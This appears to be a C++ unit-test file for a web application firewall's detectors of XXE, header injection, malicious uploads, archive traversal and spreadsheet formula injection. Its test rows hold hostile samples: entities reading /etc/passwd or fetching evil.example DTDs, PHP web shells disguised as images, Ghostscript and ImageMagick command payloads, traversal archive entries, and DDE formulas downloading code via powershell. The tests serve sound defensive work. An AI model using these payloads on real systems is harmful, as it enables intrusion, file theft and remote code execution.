// The analysers of addresses, files, XML, line ends and request paths: attacks and what only looks like them.
#include <gtest/gtest.h>

#include "detect/analyze/upload/formula_matcher.h"
#include "detect/analyze/upload/upload_matcher.h"
#include "tests/detect/analyze/analyze_support.h"

namespace wafd::detect {
namespace {

using namespace std::string_view_literals;

struct Row {
  std::string_view text;
  const char* verdict;
};

constexpr Row kXxe[] = {
    {"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", "low"},
    {"<!ENTITY % b SYSTEM 'http://evil.example/x.dtd'>", "low"},
    {"<!ENTITY % b \"x\">", "low"},
    {"<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\">", "balanced"},
    {"<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></a>", "balanced"},
    {"<!ENTITY a 'x'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'><!ENTITY d '&c;&c;'>", "low"},
    {"<!ENTITY copy '&#169;'>", "strict"},
    {"<!DOCTYPE html>", "-"},
    {"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
     "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
     "-"},
    {"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
     "-"},
    {"<?xml version=\"1.0\"?><a><b>c</b></a>", "-"},
};

constexpr Row kHeaders[] = {
    {"x\r\nSet-Cookie: a=b", "balanced"},     {"x\nLocation: //evil.example", "balanced"},
    {"x\r\n\r\nHTTP/1.1 200 OK", "low"},      {"a@b.example\r\nBcc: c@d.example", "balanced"},
    {"x\r\nGET /admin HTTP/1.1", "balanced"}, {"line one\nline two: yes", "-"},
    {"Dear all\r\nto: be or not", "-"},       {"one\r\n\r\ntwo", "-"},
};

constexpr Row kFileNames[] = {
    {"shell.php", "balanced"}, {"shell.pHtml", "balanced"}, {"a.jsp", "balanced"},
    {"a.php.jpg", "low"},      {"a.php;.jpg", "low"},       {"a.php .jpg", "low"},
    {"a.php...", "low"},       {"a.asp::$DATA", "low"},     {"a.php\0.png"sv, "low"},
    {".htaccess", "low"},      {"web.config", "low"},       {"sess_abcdefghijklmnopqrst0123", "balanced"},
    {"a.html", "strict"},      {"photo.jpg", "-"},          {"report.final.v2.pdf", "-"},
    {"my.php notes", "-"},     {"archive.tar.gz", "-"},     {"Änderung.docx", "-"},
};

template <std::size_t N>
void expect_rows(const Analyzer& analyzer, const Row (&rows)[N], Location location = Location::kQuery,
                 bool in_name = false) {
  for (const Row& row : rows)
    EXPECT_EQ(verdict_of(analyzer, row.text, location, in_name), row.verdict) << row.text;
}

TEST(AddressAndFile, Xxe) {
  // In a document that was read, attributes stand alone.
  const Analyzer* const analyzer = &analyzer_named("xxe");
  FieldContext context;
  context.location = Location::kBody;
  context.name = "xmlns:xi";
  EXPECT_EQ(verdict_in(*analyzer, "http://www.w3.org/2001/XInclude", context), "balanced");
  context.name = "xmlns:php";
  EXPECT_EQ(verdict_in(*analyzer, "http://php.net/xsl", context), "balanced");
  EXPECT_EQ(verdict_in(*analyzer, "http://www.w3.org/2001/XMLSchema", context), "-");
  context.name = "href";
  EXPECT_EQ(verdict_in(*analyzer, "http://www.w3.org/2001/XInclude", context), "-");
  expect_rows(analyzer_named("xxe"), kXxe);
}
TEST(AddressAndFile, Headers) { expect_rows(analyzer_named("crlf"), kHeaders); }
TEST(AddressAndFile, FileNames) { expect_rows(analyzer_named("upload"), kFileNames, Location::kFile, true); }

TEST(AddressAndFile, PageCodeInFiles) {
  const Analyzer* const analyzer = &analyzer_named("upload");
  EXPECT_EQ(verdict_of(*analyzer, "<%@ page import=\"java.io.*\" %>", Location::kFile), "low");
  EXPECT_EQ(verdict_of(*analyzer, "<% Runtime.getRuntime().exec(\"id\"); %>", Location::kFile), "low");
  EXPECT_EQ(verdict_of(*analyzer, "50<%60 and %>", Location::kFile), "-");
}

// Of an archive: the header of an entry with such a name.
std::string zip_entry(std::string_view name) {
  std::string out = "PK\3\4";
  out.append(22, '\0');
  out += {static_cast<char>(name.size()), '\0', '\0', '\0'};
  return out + std::string(name);
}
std::string tar_entry(std::string_view name) {
  std::string out(name);
  out.resize(257, '\0');
  return out + std::string(
                   "ustar\000"
                   "00",
                   8);
}
std::string windows_program() {
  std::string out = "MZ";
  out.resize(0x80, '\0');
  out[0x3c] = static_cast<char>(0x80);
  return out + "PE" + std::string(20, '\0');
}

std::string tar_link(std::string_view name, std::string_view target) {
  std::string entry = tar_entry(name);
  entry[156] = '2';
  entry.replace(157, target.size(), target);
  return entry;
}

struct ContentRow {
  std::string text;
  bool media;
  const char* verdict;
};

TEST(AddressAndFile, ContentOfUploads) {
  const Analyzer* const analyzer = &analyzer_named("upload");
  const ContentRow rows[] = {
      {"GIF89a;<?=`$_GET[0]`?>", true, "balanced"},
      {"\xff\xd8\xff\xe0<?=$_REQUEST['a']($_POST['b'])?>", true, "balanced"},
      {"<? @system ($_GET[0]) ?>", false, "balanced"},
      {"GIF89a\1<?=('sys'.'tem')($_GET[0])?>", true, "balanced"},
      {"GIF89a\1<?=array_map($_GET[0],$_GET)?>", true, "balanced"},
      {"GIF89a\1<?=die(shell_exec('id'))?>", true, "balanced"},
      {"GIF89a\1<?=readfile('/etc/passwd')?>", true, "balanced"},
      {"GIF89a\1<?=include\"/tmp/x\"?>", true, "balanced"},
      {"GIF89a\1<?= hello this is no code ?>", true, "-"},
      {"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nconcat:http://evil.example/a|file:///etc/passwd\n", true,
       "balanced"},
      {"#EXTM3U\nhttps://a.example/1.ts\nfile:///C:/Music/a.mp3\n", true, "-"},
      {"<?= $title ?> <?= htmlspecialchars($name) ?>", false, "-"},
      {"<?xml version='1.0'?><?xpacket begin=''?>", true, "-"},
      {"<? if a ?>", true, "-"},
      {windows_program(), true, "balanced"},
      {windows_program(), false, "-"},
      {"MZ\x90 This program cannot be run in DOS mode.", true, "balanced"},
      {"MZ is a label", true, "-"},
      {std::string("\x7f"
                   "ELF\2\1\1\0",
                   8),
       true, "balanced"},
      {std::string("\xca\xfe\xba\xbe\0\0\0\x34", 8), true, "balanced"},
      {std::string("\xcf\xfa\xed\xfe\7\0\0\1", 8), true, "balanced"},
      {"#!/usr/bin/env python\nimport os\n", true, "balanced"},
      {"#! /bin/sh\nid\n", true, "balanced"},
      {"#!/bin/sh\nid\n", false, "-"},
      {"#!AMR\n\x3c\x91", true, "-"},
      {"%!PS\nuserdict /setpagedevice undef\n", true, "balanced"},
      {"%!PS-Adobe-3.0\n(%pipe%id) (w) file", false, "balanced"},
      {"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n", true, "-"},
      {"%!PS-Adobe-3.0 PDF-1.4\n", true, "-"},
      {"push graphic-context\nviewbox 0 0 1 1\npop graphic-context", true, "balanced"},
      {"a.mvg: push graphic-context\nfill 'url(https://e.example/|id\")'", false, "balanced"},
      {"<image><read filename=\"caption:x\"/><write filename=\"/var/a.php\"/></image>", false, "balanced"},
      {"<svg><image xlink:href=\"msl:/tmp/x\"/></svg>", true, "balanced"},
      {"<svg><text>label: @me</text><a href=\"https://e.example/\"/></svg>", true, "-"},
      {zip_entry("../../etc/x"), false, "balanced"},
      {zip_entry("a/..\\..\\x"), false, "balanced"},
      {zip_entry("a/b..c/x") + zip_entry("word/document.xml"), true, "-"},
      {tar_entry("../x"), false, "balanced"},
      {tar_entry("dir/x"), false, "-"},
      {tar_link("x", "/etc/passwd"), false, "balanced"},
      {tar_link("x", "/usr/share/zoneinfo/UTC"), false, "-"},
  };
  for (const ContentRow& row : rows) {
    FieldContext context;
    context.location = Location::kFile;
    context.media = row.media;
    EXPECT_EQ(verdict_in(*analyzer, row.text, context), row.verdict) << row.text;
  }
}

constexpr Row kFormulas[] = {
    {"=cmd|'/c calc'!A1", "balanced"},
    {"=cmd|' /C powershell IEX(wget 203.0.113.9/x)'!A0", "balanced"},
    {"@SUM(1+1)*cmd|' /C calc'!A0", "balanced"},
    {"-2+3+cmd|' /C notepad'!A0", "balanced"},
    {"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "balanced"},
    {"id,name\n1,=rundll32|'URL.dll,OpenURL calc.exe'!A\n", "balanced"},
    {"\"=10+20+cmd|'/C calc'!A0\"", "balanced"},
    {"=WEBSERVICE(\"http://e.example/?\"&A1)", "balanced"},
    {"=IMPORTXML(CONCAT(\"http://e.example/\",A1),\"//a\")", "balanced"},
    {"=DDE(\"cmd\";\"/C calc\";\"x\")", "balanced"},
    {"=-DDE(\"cmd\",\"/c calc\",\"x\")", "balanced"},
    {"=\tDDE(\"cmd\",\"/c calc\",\"x\")", "balanced"},
    {"=\tIMPORTXML(\"http://e.example/\",\"//a\")", "balanced"},
    {"=IMAGE(\"http://e.example/\"&A1)", "strict"},
    {"++call(\"a\")", "-"},
    {"=HYPERLINK(\"http://e.example/\"&A1,\"x\")", "strict"},
    {"=SUM(A1:A5)", "-"},
    {"id,formula\n1,=SUM(A1:A5)\n2,=A1&\"x\"\n3,-5+3\n", "-"},
    {"a|'b'!c", "-"},
    {"| cmd|'x'! |", "-"},
    {"the webservice(s) of cmd|'x'!A1", "-"},
    {"x = call('a')", "-"},
    {"+1 (555) 123|4567", "-"},
    {"@name said: call(\"me\")", "-"},
};
TEST(AddressAndFile, Formulas) {
  const Analyzer* const analyzer = &analyzer_named("formula");
  expect_rows(*analyzer, kFormulas);
  expect_rows(*analyzer, kFormulas, Location::kFile);
}

TEST(UploadMatcher, Evidence) {
  const auto matcher = make_upload_matcher();
  FieldContext name;
  name.location = Location::kFile;
  name.in_name = true;
  EXPECT_EQ(evidence_of(*matcher, "a.php", name), "script_name(certain) [a.php]");
  EXPECT_EQ(evidence_of(*matcher, "../a.php81.jpg", name), "disguised_name(certain) [../a.php81.jpg]");
  EXPECT_EQ(evidence_of(*matcher, "a.php/.", name), "disguised_name(certain) [a.php/.]");
  EXPECT_EQ(evidence_of(*matcher, "a.b/", name), "");
  EXPECT_EQ(evidence_of(*matcher, "c:\\web.config.", name), "server_file(certain) [c:\\web.config.]");
  EXPECT_EQ(evidence_of(*matcher, "a.hta", name), "active_name(certain) [a.hta]");
  EXPECT_EQ(evidence_of(*matcher, "phpinfo.txt", name), "");
  FieldContext content;
  content.location = Location::kFile;
  EXPECT_EQ(evidence_of(*matcher, "a<%@ Page %>", content), "page_code(certain) [<%@ Page %>]");
  EXPECT_EQ(evidence_of(*matcher, "%!PS-Adobe-3.0\n", content), "drawing(likely) [%!PS-Adobe-3.0\n]");
  EXPECT_EQ(evidence_of(*matcher, "#!/bin/sh\nid", content), "program(certain) [#!/bin/sh]");
}

TEST(FormulaMatcher, Evidence) {
  const auto matcher = make_formula_matcher();
  const auto found = [&](std::string_view text) { return evidence_of(*matcher, text); };
  EXPECT_EQ(found("a,=cmd|'/C calc'!A0"), "exchange(certain) [=cmd|'/C calc'!A]");
  EXPECT_EQ(found("=1+IMPORTXML(A1)"), "fetching(certain) [=1+IMPORTXML(]");
  EXPECT_EQ(found("=call('a')"), "fetching(certain) [=call(]");
  EXPECT_EQ(found("x=call('a')"), "");
  EXPECT_EQ(found("=HYPERLINK(A1)"), "link(certain) [=HYPERLINK(]");
}

}  // namespace
}  // namespace wafd::detect
